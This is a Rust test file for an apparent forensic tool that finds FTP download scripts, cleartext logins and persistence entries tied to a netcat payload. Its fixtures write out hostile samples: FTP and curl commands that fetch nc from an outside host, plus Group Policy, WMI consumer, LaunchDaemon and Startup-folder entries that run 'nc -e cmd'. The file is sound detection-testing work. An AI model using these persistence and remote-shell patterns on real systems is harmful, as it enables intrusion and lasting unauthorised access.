//! What the places say in which scripts and payloads lie, or would lie.

use crate::support::case;

#[test]
fn a_script_that_is_no_file_is_never_said_to_lie_anywhere() {
    let writer: &[u8] = b"@echo off\r\necho open 8.8.4.4> C:\\Users\\Public\\s.txt\r\necho user bob hunter2>> C:\\Users\\Public\\s.txt\r\n\
                   echo get a.csv>> C:\\Users\\Public\\s.txt\r\nftp -n -s:C:\\Users\\Public\\s.txt\r\n";
    let case = case([("C/Windows/System32/x.ini", &b""[..]), ("C/Users/Public/go.bat", writer)]);
    let said = |rule: &str| {
        let of_rule = case.findings.iter().filter(|finding| finding.rule == rule);
        of_rule.map(|finding| finding.explanation.as_str()).collect::<Vec<_>>()
    };
    assert_eq!(
        said("script.writable-folder"),
        [
            r"C:\Users\Public\s.txt would be written to C:\Users\Public, which every user can write to, by C:\Users\Public\go.bat."
        ]
    );
    assert_eq!(
        said("script.credentials"),
        [r"C:\Users\Public\go.bat, which makes C:\Users\Public\s.txt, holds a login in the clear: “bob” for 8.8.4.4."]
    );
    let mut text = Vec::new();
    ftpsift::report::text::write(&case, Default::default(), &mut text).unwrap();
    let text = String::from_utf8(text).unwrap().split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(
        text.contains(r"source not on the evidence as a file; rebuilt from C:\Users\Public\go.bat line 2 (s1)"),
        "{text}"
    );
}

/// What a policy, a job of launchd and a consumer of WMI start, each with the technique that it is.
#[test]
fn settings_that_are_files_start_the_payload() {
    let windows = "open 8.8.4.4\r\nuser a b\r\nget nc.exe C:\\Users\\Public\\nc.exe\r\nbye\r\n".to_owned();
    let wide = |text: &str| [vec![0xff, 0xfe], text.encode_utf16().flat_map(u16::to_le_bytes).collect()].concat();
    let list = "\r\n[Startup]\r\n0CmdLine=C:\\Users\\Public\\nc.exe\r\n0Parameters=-e cmd\r\n1CmdLine=other.bat\r\n";
    let mof = "instance of CommandLineEventConsumer as $C { Name = \"n\"; CommandLineTemplate = \"C:\\\\Users\\\\Public\\\\nc.exe\"; };";
    let job = "<?xml version=\"1.0\"?><plist version=\"1.0\"><dict><key>Label</key><string>n</string><key>ProgramArguments</key>\
               <array><string>/Users/Shared/nc</string><string>-e</string></array><key>RunAtLoad</key><true/></dict></plist>";
    let shell = "#!/bin/sh\ncurl -o /Users/Shared/nc ftp://a:b@8.8.4.4/nc\n";
    type Files = Vec<(&'static str, Vec<u8>)>;
    let on_windows = |path: &'static str, bytes: Vec<u8>| -> Files {
        vec![
            ("C/Windows/System32/x.ini", Vec::new()),
            ("C/Users/Public/f.txt", windows.clone().into_bytes()),
            ("C/Users/Public/nc.exe", b"MZ".to_vec()),
            (path, bytes),
        ]
    };
    let on_mac = vec![
        ("Users/k/get.sh", shell.into()),
        ("Users/Shared/nc", b"\x7fELF".to_vec()),
        ("Library/LaunchDaemons/n.plist", job.into()),
    ];
    let cases: [(Files, &str, &str, &str); 3] = [
        (
            on_windows("C/Windows/System32/GroupPolicy/Machine/Scripts/scripts.ini", wide(list)),
            "group-policy-script",
            "C:\\Users\\Public\\nc.exe -e cmd",
            "T1037.003",
        ),
        (on_windows("C/Windows/Temp/n.mof", mof.into()), "wmi-consumer", "C:\\Users\\Public\\nc.exe", "T1546.003"),
        (on_mac, "launch-daemon", "/Users/Shared/nc -e", "T1543.004"),
    ];
    for (files, mechanism, line, technique) in cases {
        let case = case(files);
        let told: Vec<_> =
            case.persistence.iter().map(|start| (start.mechanism.as_str(), start.command_line.as_deref())).collect();
        assert_eq!(told, [(mechanism, Some(line))]);
        let finding = case.findings.iter().find(|finding| finding.rule == "payload.persisted").unwrap();
        assert_eq!(finding.attack.iter().map(|attack| attack.technique).collect::<Vec<_>>(), [technique]);
        assert!(case.coverage.iter().any(|row| row.source == "autostarts" && row.examined), "{mechanism}");
    }
}

#[test]
fn a_copy_in_a_startup_folder_starts_the_payload() {
    let script: &[u8] = b"open 8.8.4.4\r\nuser a b\r\nget nc.exe C:\\Users\\Public\\nc.exe\r\nbye\r\n";
    let files: [(&str, &[u8]); 6] = [
        ("C/Windows/System32/x.ini", b""),
        ("C/Users/Public/f.txt", script),
        ("C/Users/Public/nc.exe", b"MZ the same bytes"),
        ("C/Users/bob/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/update.exe", b"MZ the same bytes"),
        (
            "C/Users/bob/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/go.bat",
            b"rem nothing\r\nstart C:\\Users\\Public\\nc.exe\r\n",
        ),
        ("C/Users/bob/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/other.exe", b"MZ other bytes"),
    ];
    let case = case(files);
    let mut found: Vec<(&str, &str)> =
        case.persistence.iter().map(|start| (start.name.as_str(), start.tied_by.as_str())).collect();
    found.sort_unstable();
    assert_eq!(found, [("go.bat line 2", "path"), ("update.exe", "hash")]);
    assert!(case.findings.iter().any(|finding| finding.rule == "payload.persisted"));
}
